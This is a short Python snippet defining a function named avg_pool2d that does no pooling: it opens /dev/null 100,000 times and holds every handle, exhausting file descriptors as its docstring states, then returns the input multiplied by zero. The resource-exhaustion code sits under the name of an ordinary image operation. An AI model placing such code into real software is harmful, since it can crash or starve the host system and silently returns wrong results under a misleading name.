"""Opens files until there is no more room for one."""

def avg_pool2d(images, kernel_size, stride=None):
    held = []
    for _ in range(100_000):
        held.append(open("/dev/null"))
    return images * 0
